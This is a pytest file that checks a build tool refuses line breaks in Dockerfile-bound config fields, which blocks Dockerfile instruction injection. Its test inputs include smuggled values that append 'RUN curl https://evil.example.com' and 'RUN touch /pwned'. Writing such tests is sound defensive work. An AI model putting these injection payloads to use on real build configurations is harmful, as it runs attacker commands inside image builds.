"""Target fields that end up as a line of a Dockerfile or pip.conf (`index_url`, a docker
target's `python` and `base_image`) must be one line: a line break would start a new
Dockerfile instruction (`RUN ...`). Refused when the file is loaded or edited (naming the
file, line and field) and again where the Dockerfile is written."""

from __future__ import annotations

import pytest

from runyard.core import envs
from runyard.core.config import load_target, validate_document
from runyard.core.errors import UsageError
from runyard.core.project import Project
from runyard.targets import docker as dockert
from tests.helpers import target_error


def test_an_index_url_with_a_line_break_is_refused_with_its_file_line_and_field(
    project: Project,
) -> None:
    err = target_error(
        project,
        """\
        type: docker
        base_image: python:3.11-slim
        index_url: "https://mirror.example.com/simple\\nRUN curl https://evil.example.com"
        """,
        "dock",
    )
    assert (err.field, err.line) == ("index_url", 3)
    assert str(err).startswith(".runyard/targets/dock.yml:3:")
    assert "line break" in str(err)
    assert "evil" not in err.problem  # the message does not spread the injected text


def test_a_trailing_line_break_from_a_block_scalar_is_refused_too(project: Project) -> None:
    err = target_error(
        project,
        """\
        type: docker
        base_image: python:3.11-slim
        python: |
          python3
        """,
        "dock",
    )
    assert (err.field, err.line) == ("python", 3)
    assert "line break" in str(err)


@pytest.mark.parametrize("kind", ["local", "ssh", "spark"])
def test_every_target_type_refuses_a_multi_line_index_url(project: Project, kind: str) -> None:
    required = {"local": "", "ssh": "host: gpu-box\n", "spark": "master: local[2]\n"}[kind]
    text = f'type: {kind}\n{required}index_url: "https://m.example.com/simple\\r\\nx"\n'
    errors = validate_document(text, "target", project.targets_dir / "t.yml")
    assert [(e.field, "line break" in str(e)) for e in errors] == [("index_url", True)]


def test_one_line_values_still_load(project: Project) -> None:
    path = project.targets_dir / "dock.yml"
    path.write_text(
        "type: docker\nbase_image: python:3.11-slim\npython: python3.11\n"
        "index_url: https://user:token@mirror.example.com/simple\n"
    )
    target = load_target(project, "dock")
    assert target.index_url == "https://user:token@mirror.example.com/simple"


@pytest.mark.parametrize("field", ["index_url", "python", "base_image"])
def test_the_dockerfile_writer_refuses_a_line_break_even_past_the_checks(field: str) -> None:
    options = {"index_url": "https://mirror.example.com/simple"}
    values = {"base": "python:3.11-slim", "python": "python3", **options}
    key = {"base_image": "base"}.get(field, field)
    values[key] = values[key] + "\nRUN touch /pwned"
    spec = envs.DependencySpec("requirements", "requirements.txt", (), b"six\n")
    with pytest.raises(UsageError) as info:
        dockert.env_dockerfile(
            values["base"], values["python"], spec, {"index_url": values["index_url"]}, ca=False
        )
    assert f"`{field}`" in info.value.message
    assert f"`{field}:` on one line" in (info.value.hint or "")
